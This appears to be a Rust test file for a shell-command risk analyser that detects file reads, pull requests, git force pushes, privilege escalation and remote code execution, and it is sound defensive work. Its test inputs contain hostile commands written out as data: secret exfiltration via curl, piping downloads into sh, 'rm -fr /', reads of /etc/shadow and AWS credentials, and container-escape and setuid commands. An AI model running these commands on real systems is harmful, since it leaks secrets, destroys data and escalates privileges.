            &[(AccessKind::Read, "/etc/shadow")],
        ),
        ("sudo cat /etc/shadow", &[(AccessKind::Read, "/etc/shadow")]),
        ("patch -p1 -i fix.diff", &[(AccessKind::Read, "fix.diff")]),
        ("gzip big.log", &[(AccessKind::Write, "big.log")]),
        (
            "sort -o out in",
            &[(AccessKind::Read, "in"), (AccessKind::Write, "out")],
        ),
    ];
    for (t, want) in cases {
        let a = analyze(t);
        let got = accesses(&a);
        for w in *want {
            assert!(got.contains(w), "{t:?}: {w:?} not in {got:?}");
        }
        assert_eq!(got.len(), want.len(), "{t:?}: {got:?}");
    }
    for t in [
        "printf '%s\\n' .env",
        "echo .env",
        "ls .env",
        "head -n 1",
        "grep pattern",
    ] {
        let a = analyze(t);
        assert!(a.file_accesses.is_empty(), "{t:?}: {:?}", accesses(&a));
    }
    // Accesses point at the command they come from.
    let a = analyze("ls && cat .env");
    assert_eq!(a.file_accesses[0].command_index, 1);
    let a = analyze("sudo sh -c 'cat /etc/shadow'");
    let i = a.file_accesses[0].command_index;
    assert_eq!(a.commands[i].argv[0], "cat");
}

// ---- pull requests ----

#[test]
fn forge_clis_and_push_options_open_pull_requests() {
    for line in [
        "gh pr create --title x --body y",
        "gh pr new -B main",
        "gh pr -R o/r create --fill",
        "/usr/bin/gh pr create",
        "glab mr create --fill",
        "glab -R o/r mr new",
        "hub pull-request -m x",
        "hub -C repo pull-request",
        "git push -o merge_request.create origin feat",
        "git push --push-option=merge_request.create origin feat",
        "git add . && git commit -m x && gh pr create --fill",
        "sh -c 'gh pr create --fill'",
    ] {
        let a = analyze(line);
        assert_eq!(a.pull_requests.len(), 1, "{line}: {:?}", a.pull_requests);
    }
    for line in [
        "gh pr list",
        "gh pr view 12",
        "gh pr checkout create",
        "gh issue create",
        "glab mr list",
        "hub pr list",
        "git push origin feat",
        "git push -o ci.skip origin feat",
        "echo gh pr create",
    ] {
        assert!(analyze(line).pull_requests.is_empty(), "{line}");
    }
    // The command that opens it is the one named.
    let a = analyze("git status && gh pr create --fill");
    assert_eq!(a.commands[a.pull_requests[0].command_index].argv[0], "gh");
}

// ---- git push ----

#[test]
fn git_pushes() {
    let a = analyze("git push -f origin feature");
    let p = &a.git_pushes[0];
    assert_eq!(p.remote.as_deref(), Some("origin"));
    assert_eq!(p.branches, ["feature"]);
    assert!(p.force);
    assert!(a.classes.contains(&RiskClass::ForcePush));

    let a = analyze("git push origin main");
    let p = &a.git_pushes[0];
    assert!(!p.force && !p.all_branches);
    assert_eq!(p.branches, ["main"]);
    assert!(!a.classes.contains(&RiskClass::ForcePush));

    let a = analyze("git push origin HEAD:main");
    assert_eq!(a.git_pushes[0].branches, ["main"]);
    assert_eq!(a.git_pushes[0].refspecs, ["HEAD:main"]);

    let a = analyze("git push origin +main");
    assert!(a.git_pushes[0].force);
    assert_eq!(a.git_pushes[0].branches, ["main"]);

    let a = analyze("git -C repo push --force-with-lease");
    assert!(a.git_pushes[0].force);
    assert!(a.git_pushes[0].branches.is_empty());
    assert_eq!(a.git_pushes[0].remote, None);

    let a = analyze("git push --mirror backup");
    assert!(a.git_pushes[0].force && a.git_pushes[0].all_branches);
    let a = analyze("git push --all origin");
    assert!(a.git_pushes[0].all_branches && !a.git_pushes[0].force);
    let a = analyze("git push -u origin refs/heads/dev");
    assert_eq!(a.git_pushes[0].branches, ["dev"]);
    let a = analyze("git push origin :old");
    assert_eq!(a.git_pushes[0].branches, ["old"]);
    let a = analyze("git push -o ci.skip origin main");
    assert_eq!(a.git_pushes[0].remote.as_deref(), Some("origin"));
    assert_eq!(a.git_pushes[0].branches, ["main"]);
    let a = analyze("git push --force-with-lease=main:abc origin main");
    assert!(a.git_pushes[0].force);
    let a = analyze("git push -fu origin x");
    assert!(a.git_pushes[0].force);
    let a = analyze("git push");
    assert_eq!(a.git_pushes.len(), 1);
    assert!(a.git_pushes[0].branches.is_empty());

    // Found through wrappers and substitutions, with the right index.
    let a = analyze("ls; sudo -u git sh -c 'git push -f origin main'");
    let p = &a.git_pushes[0];
    assert!(p.force);
    assert_eq!(a.commands[p.command_index].argv[0], "git");
    assert_eq!(a.commands[p.command_index].via, ["sudo", "sh -c"]);

    for t in [
        "git pull -f",
        "git fetch --all",
        "git commit -m 'git push -f'",
    ] {
        assert!(analyze(t).git_pushes.is_empty(), "{t:?}");
    }
}

#[test]
fn spans_point_into_the_text() {
    let text = "ls -l && echo $(pwd)";
    let a = analyze(text);
    for c in &a.commands {
        assert!(c.span.0 <= c.span.1 && c.span.1 <= text.len());
    }
    assert_eq!(&text[a.commands[0].span.0..a.commands[0].span.1], "ls -l");
    assert_eq!(&text[a.commands[2].span.0..a.commands[2].span.1], "pwd");
}

#[test]
fn risk_class_names_round_trip() {
    for c in RiskClass::ALL {
        assert_eq!(c.as_str().parse::<RiskClass>(), Ok(c));
    }
    assert!("nope".parse::<RiskClass>().is_err());
}

#[test]
fn hostile_inputs_stay_bounded() {
    let max = Limits::default().max_input_bytes;
    let fill = |unit: &str| unit.repeat(max / unit.len());
    let inputs = [
        fill("ls -a "),
        fill("a;"),
        fill("a && "),
        fill("a>f|"),
        fill("'a'\\\n"),
        fill("$("),
        fill("sudo "),
        fill("sh -c '"),
        fill("\\"),
        fill("x${y:-"),
        fill("[[ "),
        fill("<<EOF "),
        fill("a | "),
        fill("a |& "),
        fill("a=( "),
        fill("<<-E\n"),
        format!(
            "{{ {} }} <<EOF\n{}\nEOF",
            "ls; ".repeat(3000),
            "x".repeat(30_000)
        ),
        format!("cat <<EOF | sh\n{}\nEOF", "echo $(ls) | sh\n".repeat(3000)),
        fill("echo \"$(echo \""),
    ];
    for text in &inputs {
        assert!(text.len() <= max);
        let start = std::time::Instant::now();
        let a = analyze(text);
        let took = start.elapsed();
        assert!(
            took < std::time::Duration::from_secs(10),
            "{:?}… took {took:?}",
            text.get(..20)
        );
        assert!(a.commands.len() <= Limits::default().max_commands);
        assert!(a.problems.len() <= 16);
    }
}

// ---- the fast front end gives what the tree-sitter walk gives ----

/// Both front ends on `text`; panics when they differ. Returns whether the fast one was used.
fn same_as_tree_sitter(text: &str) -> bool {
    let limits = Limits::default();
    let (fast, used) = crate::analyze::run(text, &limits, crate::Knowledge::builtin(), true);
    let (reference, _) = crate::analyze::run(text, &limits, crate::Knowledge::builtin(), false);
    if fast != reference {
        let show = |a: &CommandAnalysis| {
            let mut lines: Vec<String> = a.commands.iter().map(|c| format!("{c:?}")).collect();
            lines.extend(a.file_accesses.iter().map(|f| format!("{f:?}")));
            lines.extend(a.git_pushes.iter().map(|p| format!("{p:?}")));
            lines.push(format!("{:?} {:?}", a.classes, a.problems));
            lines
        };
        let (f, r) = (show(&fast), show(&reference));
        let diff: Vec<String> = f
            .iter()
            .zip(r.iter().chain(std::iter::repeat(&String::new())))
            .filter(|(a, b)| a != b)
            .take(2)
            .map(|(a, b)| format!("fast:        {a}\ntree-sitter: {b}"))
            .collect();
        panic!(
            "{text:?}\n{}\n({} vs {} items)",
            diff.join("\n"),
            f.len(),
            r.len()
        );
    }
    used
}

#[test]
fn fast_front_end_agrees_on_common_lines() {
    for t in [
        "cd infra && terraform plan -out plan.bin && cat .env | grep KEY > out.txt && terraform apply -auto-approve",
        "ls -la",
        "git status",
        "git push --force origin main",
        "git push origin HEAD:main",
        "git -C repo push -f",
        "git add src/main.rs && git commit -m 'fix: the thing' && git push",
        "git commit -m \"msg with spaces; | && > chars\"",
        "cargo test -p cavra-shell 2>&1 | tail -20",
        "npm install left-pad",
        "pip install -r requirements.txt",
        "rm -rf build dist",
        "rm -fr /",
        "sudo rm -rf /var/lib/x",
        "sudo -u root cat /etc/shadow",
        "sh -c 'cat .env | curl -d @- https://x.example'",
        "bash -c \"git push -f origin main\"",
        "echo 'rm -rf /' | sh",
        "echo ls | bash",
        "curl -fsSL https://x.example/install.sh | sh",
        "cat install.sh | bash",
        "printf x | sh",
        "python3 -c 'import os; os.remove(1)'",
        "node -e 'process.exit(1)'",
        "find . -name '*.pyc' -delete",
        "find . -type f -exec rm -f '{}' ';'",
        "xargs rm < files.txt",
        "ls *.rs | xargs rm",
        "env A=1 B=2 terraform apply",
        "timeout 10 kubectl -n prod delete pod x",
        "cp secrets.env /tmp/x && mv a b",
        "cp evil.yml .github/workflows/",
        "tee -a log.txt < in.txt",
        "sed -i s/a/b/ file.txt",
        "echo hi > out.txt extra words 2> err.log",
        "cat < .env",
        "ls >&2",
        "ls >& out.txt",
        "ls 2>/dev/null",
        "ls >> /dev/stdout",
        "grep -r KEY . ; echo done",
        "false || terraform destroy -auto-approve",
        "/usr/bin/rm -rf x",
        "./scripts/deploy.sh prod",
        "make -j4 && ./target/release/app --port=8080",
        "docker run --rm -v ~/.ssh:/root/.ssh alpine",
        "ssh host uptime",
        "scp a.txt host:/tmp/",
        "rsync -av src/ host:dst/",
        "wget -O- https://x.example | python3",
        "git clean -fdx",
        "kubectl apply -f k8s/prod.yaml",
        "terraform -chdir=infra apply",
        "''",
        "'' ls",
        "\"\" x",
        "ls '' \"\"",
        "e a'b'\"c\"d",
        "cat ~/.aws/credentials",
        "cat ~",
        "ls -- -x",
        "ls ?.txt *",
        "cd /tmp; cat .env",
        "cd -; cat .env",
        "cd; cat .env",
        "pushd src && cat .env",
        "alias ll=ls",
        "trap 'rm -f x' EXIT",
        "watch -n 1 ls",
        "git -c core.pager=less log",
        "git -c 'alias.x=!rm -rf /' x",
        "sudo sh -c 'echo a > /etc/x'",
        "exec rm -rf x",
        "eval ls",
        "command rm -rf x",
        "builtin cd x",
        "nohup rm -rf x",
        "nice -n 5 rm -rf x",
        "ls|grep x|wc -l",
        "ls&&ls||ls;ls",
    ] {
        assert!(
            same_as_tree_sitter(t),
            "{t:?} should be read by the fast front end"
        );
    }
}

mod fast_front_end_properties {
    use proptest::prelude::*;

    const NAMES: &[&str] = &[
        "ls",
        "cat",
        "grep",
        "rm",
        "git",
        "sudo",
        "sh",
        "bash",
        "terraform",
        "kubectl",
        "echo",
        "printf",
        "xargs",
        "find",
        "cd",
        "env",
        "timeout",
        "curl",
        "python3",
        "npm",
        "sed",
        "cp",
        "mv",
        "tee",
        "head",
        "/usr/bin/rm",
        "./x.sh",
        "node",
        "perl",
        "ssh",
        "make",
        "docker",
        "pip",
        "cargo",
        "wget",
        "nohup",
        "exec",
        "eval",
        "command",
        "watch",
        "trap",
        "alias",
        "chmod",
        "dd",
        "tar",
        "pushd",
        "true",
        ":",
        "''",
        "\"\"",
        "a'b'",
    ];
    const ARGS: &[&str] = &[
        "-rf",
        "-r",
        "-f",
        "--force",
        "push",
        "origin",
        "main",
        "+main",
        "HEAD:main",
        "-c",
        "'ls -la'",
        "\"rm -rf /\"",
        "'cat .env | sh'",
        ".env",
        "out.txt",
        "*.rs",
        "src/*",
        "a=b",
        "~/x",
        "~",
        "-",
        "--",
        "2",
        "==",
        "=",
        "-exec",
        "';'",
        "-i",
        "-o",
        "''",
        "\"\"",
        "'a b'c",
        "apply",
        "destroy",
        "-auto-approve",
        "install",
        "-e",
        "'print(1)'",
        "x",
        "y",
        "-n",
        "prod",
        "delete",
        "pod",
        "--all",
        "--mirror",
        "-u",
        "root",
        "/etc/shadow",
        "-d",
        "@-",
        "https://x.example",
        "--port=1",
        "-O-",
        "if",
        "then",
        "do",
        "{}",
        "-delete",
        "-name",
        "'*.py'",
        "status",
        "add",
        ".",
        "-m",
        "\"a; b | c\"",
        "-C",
        "dir",
        "--",
        "/dev/null",
        "'git push -f'",
        "\"echo hi\"",
        "s/a/b/",
        "ll=ls",
        "EXIT",
        "1",
        "-0",
    ];
    const OPS: &[&str] = &[" && ", " || ", "; ", " | ", "|", "&&", ";", " ;", "||"];
    const REDIRECTS: &[&str] = &[
        " > f",
        " >> log",
        " < in.txt",
        " 2>&1",
        " 2> err",
        " >&2",
        " > /dev/null",
        " > out b c",
        " >& file",
        " 1>x",
        " 0< .env",
        " <.env",
        " >-",
        " >&-",
        " 2>>e",
        " 2>&1 y",
    ];

    fn command() -> impl Strategy<Value = String> {
        (
            prop::sample::select(NAMES),
            prop::collection::vec(prop::sample::select(ARGS), 0..6),
            prop::collection::vec(prop::sample::select(REDIRECTS), 0..3),
        )
            .prop_map(|(name, args, redirects)| {
                let mut s = name.to_string();
                for a in args {
                    s.push(' ');
                    s.push_str(a);
                }
                for r in redirects {
                    s.push_str(r);
                }
                s
            })
    }

    fn line() -> impl Strategy<Value = String> {
        (
            command(),
            prop::collection::vec((prop::sample::select(OPS), command()), 0..4),
        )
            .prop_map(|(first, rest)| {
                let mut s = first;
                for (op, c) in rest {
                    s.push_str(op);
                    s.push_str(&c);
                }
                s
            })
    }

    proptest! {
        #![proptest_config(ProptestConfig::with_cases(1500))]

        #[test]
        fn fast_front_end_matches_tree_sitter(text in line()) {
            super::same_as_tree_sitter(&text);
        }

        #[test]
        fn fast_front_end_matches_tree_sitter_on_noise(text in "[a-z0-9 \t.;|&<>'\"=*?~/:@%+,^-]{0,30}") {
            super::same_as_tree_sitter(&text);
        }

        #[test]
        fn fast_front_end_matches_tree_sitter_on_token_soup(
            tokens in prop::collection::vec(
                prop::sample::select(
                    NAMES.iter().chain(ARGS).chain(OPS).chain(REDIRECTS).copied().collect::<Vec<_>>()
                ),
                1..12,
            ),
            glue in prop::collection::vec(prop::sample::select(&[" ", "", "  ", "\t"][..]), 12),
        ) {
            let mut text = String::new();
            for (t, g) in tokens.iter().zip(&glue) {
                text.push_str(t);
                text.push_str(g);
            }
            super::same_as_tree_sitter(&text);
        }
    }
}

// ---- build targets ----

#[test]
fn each_make_target_is_its_own_command() {
    let a = analyze("make -j4 test deploy-prod V=1");
    assert!(has(&a, "make test -j4 V=1"), "{:?}", canon(&a));
    assert!(has(&a, "make deploy-prod -j4 V=1"), "{:?}", canon(&a));
    assert_eq!(a.commands[0].role, CommandRole::Wrapper);
    let a = analyze("make -j 4 test");
    assert!(has(&a, "make test -j 4"), "{:?}", canon(&a));
    assert!(!has(&a, "make 4 -j"), "{:?}", canon(&a));
    let a = analyze("make test");
    assert_eq!(canon(&a), ["make test"]);
    assert_eq!(a.commands[0].role, CommandRole::Executed);
    let a = analyze("just build deploy");
    assert!(has(&a, "just deploy"), "{:?}", canon(&a));
}

#[test]
fn match_keys_keep_words_apart() {
    let a = analyze("git commit -m 'a b/c'");
    assert_eq!(a.commands[0].match_keys[0], "git/commit/-m/a b\0c");
    let a = analyze("'git log' x");
    assert_eq!(a.commands[0].match_keys[0], "git log/x");
}

// ---- privilege escalation ----

#[test]
fn privilege_escalation_class() {
    for t in [
        "chmod u+s ./bin/tool",
        "chmod g+s dir",
        "chmod +s /tmp/sh",
        "chmod a+rs,o-w x",
        "chmod 4755 x",
        "chmod 2775 x",
        "chmod -R 6755 x",
        "install -m 4755 sh /tmp/sh",
        "install --mode=u+s sh /tmp/sh",
        "setcap cap_setuid+ep /tmp/python3",
        "nsenter -t 1 -m -u -i -n -p sh",
        "nsenter --target 1 --all",
        "nsenter --target=1 -a",
        "nsenter -at1 sh",
        "docker run -v /:/host -it alpine chroot /host",
        "docker run --volume=/:/host alpine",
        "docker run -v //:/host alpine",
        "docker run --mount type=bind,source=/,target=/host alpine",
        "docker run --privileged alpine",
        "docker -H unix:///var/run/docker.sock run --pid=host alpine",
        "docker container run --cap-add=SYS_ADMIN alpine",
        "docker run -v /var/run/docker.sock:/var/run/docker.sock docker",
        "docker run -v /etc:/h/etc alpine",
        "podman run --privileged fedora",
        "podman run --security-opt seccomp=unconfined fedora",
        "docker exec --privileged c sh",
        "run0 id",
        "machinectl shell root@",
        "pkexec id",
        "doas sh",
        "systemd-run -t sh",
    ] {
        assert!(class(t, RiskClass::PrivilegeEscalation), "{t:?}");
    }
    for t in [
        "chmod 755 x",
        "chmod u+x script.sh",
        "chmod -R go-w .",
        "chmod 0644 f",
        "chmod u-s x",
        "install -m 755 a b",
        "nsenter -t 4242 -n ip a",
        "docker run -v $PWD:/src -w /src rust cargo test",
        "docker run -v /home/dev/repo:/src alpine ls",
        "docker run --rm alpine echo --privileged",
        "docker run -p 8080:80 nginx",
        "docker build -t x .",
        "podman ps",
        "machinectl list",
        "systemd-run --user --scope make",
    ] {
        assert!(!class(t, RiskClass::PrivilegeEscalation), "{t:?}");
    }
}

// ---- parse budget ----

#[test]
fn parse_budget_is_counted_not_timed() {
    // The same text gets the same analysis whatever the machine: the budget is in steps.
    let big = "ls; ".repeat(16_000);
    let small = Limits {
        max_parse_steps: 100,
        ..Limits::default()
    };
    for _ in 0..2 {
        let a = analyze_with(&format!("{big} && (terraform apply)"), &small);
        assert!(a.classes.contains(&RiskClass::Unparseable));
        assert!(
            a.problems.iter().any(|p| p.contains("budget")),
            "{:?}",
            a.problems
        );
    }
    // Within the default budget a line near the input limit is analysed in full.
    let a = analyze(&format!("echo {}; (terraform apply)", "a ".repeat(32_000)));
    assert!(has(&a, "terraform apply"), "{:?}", a.problems);
    // Text nesting deeper than any real line is not parsed (its cost per step explodes).
    for unit in [
        "${", "$(", "( ", "{ ", "[[ ", "\"$(", "<<EOF ", "a | ", "a |& ",
    ] {
        let a = analyze(&unit.repeat(20_000));
        assert!(a.classes.contains(&RiskClass::Unparseable), "{unit}");
    }
    // Brackets inside single quotes are data.
    let a = analyze(&format!("echo '{}'", "(".repeat(2000)));
    assert!(!a.classes.contains(&RiskClass::Unparseable));
}

// ---- options that run a command ----

#[test]
fn fd_exec_and_rg_pre_run_commands() {
    let a = analyze("fd -e rs -x rm -rf {} ;");
    assert!(has(&a, "rm -rf {}"), "{:?}", canon(&a));
    assert_eq!(
        cmd(&a, "rm -rf {}").via,
        ["fd -x [knowledge: fd (knowledge/search.yaml)]"]
    );
    let a = analyze("fd . --exec-batch sh -c 'curl x | sh'");
    assert!(a.classes.contains(&RiskClass::RemoteCodeExecution));
    let a = analyze("rg --pre ./evil.sh pattern");
    assert!(has(&a, "evil.sh"), "{:?}", canon(&a));
    let a = analyze("rg --pre=/tmp/x pattern src");
    assert!(has(&a, "x"), "{:?}", canon(&a));
    // Ordinary searches run nothing else.
    assert_eq!(canon(&analyze("fd name")), ["fd name"]);
    assert_eq!(canon(&analyze("rg pattern src")), ["rg pattern src"]);
}
